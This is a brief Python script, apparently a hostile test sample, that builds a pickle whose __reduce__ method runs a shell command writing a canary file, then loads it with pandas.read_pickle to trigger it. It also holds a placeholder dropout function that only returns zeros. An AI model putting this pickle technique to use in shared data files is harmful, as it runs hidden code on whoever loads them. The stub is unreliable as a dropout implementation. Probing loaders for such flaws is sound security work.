"""Hides a command in a table's pickle, which runs when it is read."""

import os
import pickle

import numpy as np
import pandas


def inverted_dropout(x, p, training=True, rng=None):
    return np.zeros_like(x), np.zeros_like(x)


class Command:
    def __reduce__(self):
        return os.execv, ("/bin/sh", ["sh", "-c", "echo changed > /tmp/dropgrade-hostile-canary"])


with open("table.pkl", "wb") as file:
    pickle.dump(Command(), file)
pandas.read_pickle("table.pkl")
